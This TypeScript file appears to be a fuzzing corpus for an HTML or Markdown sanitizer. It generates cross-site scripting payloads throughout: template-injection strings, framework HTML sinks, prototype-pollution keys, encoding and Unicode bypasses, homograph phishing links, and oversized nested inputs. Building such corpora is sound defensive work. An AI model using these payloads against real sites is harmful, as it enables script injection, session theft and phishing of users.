import type { Vector } from '../payload.ts'

/** What template languages would fill in. */
export const TEMPLATES: Vector[] = [
  ({ run }) => `{{constructor.constructor('${run.replaceAll("'", '`')}')()}}`,
  ({ run }) => `{{${run}}} {{{${run}}}} [[${run}]]`,
  ({ run }) => `\${${run}} #{${run}} @{${run}} *{${run}}`,
  ({ run }) => `<%= ${run} %><% ${run} %><%- ${run} %>`,
  ({ run }) => `{% raw %}<script>${run}</script>{% endraw %}`,
  ({ run }) => `{{ '<script>${run}</script>' | safe }}`,
  ({ run }) => `<div ng-app ng-csp ng-click="${run}">{{$eval.constructor('${run}')()}}</div>`,
  ({ run }) => `<div v-html="'<img src=x onerror=${run}>'" @click="${run}"></div>`,
  ({ run }) => `<div x-data x-init="${run}" x-html="'<img src=x onerror=${run}>'"></div>`,
  ({ run, from }) => `<div hx-get="${from}" hx-trigger="load" hx-on::load="${run}"></div>`,
  ({ run }) => `<div data-bind="html: '<img src=x onerror=${run}>'" data-html=true></div>`,
  ({ run }) => `<div dangerouslySetInnerHTML={{__html:'<img src=x onerror=${run}>'}} />`,
  ({ run, n }) => `{"type":"img","props":{"src":"x","onerror":"${run}"},"key":${n},"__v":1}`,
  ({ run, n }) =>
    `{"$$typeof":"react.element","type":"script","props":{"dangerouslySetInnerHTML":{"__html":"${run}"}},"key":${n}}`,
  ({ run }) => `<Script onLoad={${run}}>{${run}}</Script>`,
  ({ run }) => `<!--#exec cmd="${run}"--><!--#include virtual="<script>${run}</script>"-->`,
  ({ run }) => `<?php echo '<script>${run}</script>'; ?>`,
]

const PROTOTYPE = ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'valueOf']

/** Names that objects have before anybody gives them any. */
export const PROTOTYPES: Vector[] = [
  ...PROTOTYPE.flatMap<Vector>((name) => [
    ({ run, n }) => `[${name}]\n\n[${name}]: javascript:${run}#${n}`,
    ({ run, n }) => `\`\`\`${name}\n<img src=x onerror=${run}> ${n}\n\`\`\``,
    ({ run, n }) => `| ${name} |\n|---|\n| <img src=x onerror=${run}> ${n} |`,
    ({ run, n }) => `[${n}][${name}] <${name} onclick="${run}"> ![${name}][${name}]`,
    ({ run, n }) => `$\\${name}{${run}}$ ${n}`,
  ]),
  ({ run, n }) => `{"__proto__":{"innerHTML":"<img src=x onerror=${run}>"},"n":${n}}`,
  ({ run, n }) => `?__proto__[srcdoc]=<script>${run}</script>&constructor.prototype.src=${n}`,
]

/** The same characters written as others. */
export const ENTITIES: Vector[] = [
  ({ run }) => `&lt;script&gt;${run}&lt;/script&gt;`,
  ({ run }) => `&amp;lt;script&amp;gt;${run}&amp;lt;/script&amp;gt;`,
  ({ run }) => `&#60;img src=x onerror=${run}&#62;`,
  ({ run }) => `&#x3c;img src=x onerror=${run}&#x3e;`,
  ({ run }) => `&#0000060img src=x onerror=${run}&#0000062`,
  ({ run }) => `&LT;img src=x onerror=${run}&GT;`,
  ({ run }) => `&lt;img src&equals;x onerror&equals;${run}&gt;`,
  ({ run }) => `&nvlt;script>${run}&nvgt;`,
  ({ run }) => `&lt&sol;p&gt&lt;svg onload&#61;${run}&gt`,
  ({ run }) => `\\x3cimg src=x onerror=${run}\\x3e`,
  ({ run }) => `\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
  ({ run }) => `%3Cscript%3E${run}%3C%2Fscript%3E`,
  ({ run }) => `%253Cscript%253E${run}%253C%252Fscript%253E`,
  ({ run }) => `+ADw-script+AD4-${run}+ADw-/script+AD4-`,
  ({ run }) => `\u00bcscript\u00be${run}\u00bc/script\u00be`,
  ({ run }) => `＜script＞${run}＜/script＞`,
  ({ run }) => `﹤img src=x onerror=${run}﹥`,
  ({ run }) => `‹img src=x onerror=${run}›`,
  ({ run }) => `\u226e\u0338img src=x onerror=${run}>`,
  ({ run }) => `<\u0338img src=x onerror=${run}>`,
  ({ run }) => `<img src=x onerror=${run}\u037e>`,
  ({ run }) => `\u001b(J<script>${run}</script>`,
  ({ run }) => `&#x1b;&#0;&#xD800;&#x110000;<img src=x onerror=${run}>`,
]

/** Characters that are not seen, turn others round or end lines. */
export const UNSEEN: Vector[] = [
  ({ run }) => `\u202e<script>${run}</script>\u202c`,
  ({ run }) => `\u2066<img src=x onerror=${run}>\u2069`,
  ({ run }) => `<\u200bscript>${run}</script>`,
  ({ run }) => `<scr\u00adipt>${run}</script>`,
  ({ run }) => `<img\u00a0src=x\u00a0onerror=${run}>`,
  ({ run }) => `<img\u2028src=x\u2029onerror=${run}>`,
  ({ run }) => `<img\u000bsrc=x\u000conerror=${run}>`,
  ({ run }) => `<img\u3000src=x onerror=${run}>`,
  ({ run }) => `<\ufeffimg src=x onerror=${run}>`,
  ({ run }) => `<img src=x\u0008 onerror\u0008=${run}>`,
  ({ run }) => `\u{e0001}\u{e003c}<img src=x onerror=${run}>\u{e003e}`,
  ({ run }) => `<img src=x onerror\u0301=${run}>`,
  ({ run }) => `<ſcript>${run}</ſcript>`,
  ({ run }) => `<ımg src=x onerror=${run}><İMG SRC=x>`,
  ({ run, n }) => `[\u202emoc.knab ${n}](javascript:${run})`,
  ({ run, n }) => `[pаypal ${n}](https://pаypal.test/${n}) <svg onload=${run}>`,
  ({ run, n }) => `[${n}](https://ok.test\u2044${run}) [${n}](https://ok.test\u3002${n}/)`,
  ({ run }) => `<img src=x onerror=${run}>\ufffe\uffff\u{1fffe}`,
  ({ run }) => `<a\u0085href="javascript:${run}">x</a>`,
  ({ run }) => `שלום <img src=x onerror=${run}> עולם`,
]

/** Long and deep, with something at the end. @param part of its whole length */
const long = (part: number): Vector[] => {
  const many = (count: number, text: string) => text.repeat(Math.ceil(count * part))
  return [
    ({ run }) => `<img alt="${many(4000, 'A')}" src=x onerror=${run}>`,
    ({ run }) => `<img ${many(400, 'a=1 ')}src=x onerror=${run}>`,
    ({ run }) => `<${many(600, 'x')} onclick=${run}><img src=x onerror=${run}>`,
    ({ run }) => `${many(200, '<b>')}<img src=x onerror=${run}>`,
    ({ run }) => `${many(300, '<!-- ')}<img src=x onerror=${run}>${many(300, ' -->')}`,
    ({ run }) => `${many(60, '> ')}<img src=x onerror=${run}>`,
    ({ run, n }) => `${many(200, '[')}${n}](javascript:${run})${many(200, ']')}`,
    ({ run, n }) => `${many(150, '![')}${n}](javascript:${run})${many(150, ']()')}`,
    ({ run }) => `${many(200, '*')}<img src=x onerror=${run}>${many(200, '*')}`,
    ({ run }) => `${many(30, '- ')}<img src=x onerror=${run}>`,
    ({ run, n }) => `[${n}](https://ok.test/${many(3000, 'a/')}"onclick="${run})`,
    ({ run, n }) => `[${n}](${many(2000, '&#x20;')}javascript:${run})`,
    ({ run, n }) => `[${n}](javascript:${many(3000, '/')}%0a${run})`,
    ({ run }) => `\`\`\`${many(2000, 'x')}"><img/src=x/onerror=${run}>\n${run}\n\`\`\``,
    ({ run }) => `| ${many(60, 'a | ')}<img src=x onerror=${run}> |\n|${many(60, '-|')}-|\n| x |`,
    ({ run }) => `${many(500, '\u0301')}<img src=x onerror=${run}>`,
    ({ run }) => `${many(2000, '&lt;')}img src=x onerror=${run}&gt;`,
    ({ run }) => `<svg>${many(120, '<g>')}<script>${run}</script>`,
  ]
}

/** So many are as long as they can be, half of that, a third, and so on. */
const LENGTHS = 15

export const LONG: Vector[] = Array.from({ length: LENGTHS }, (_, i) => long(1 / (i + 1))).flat()
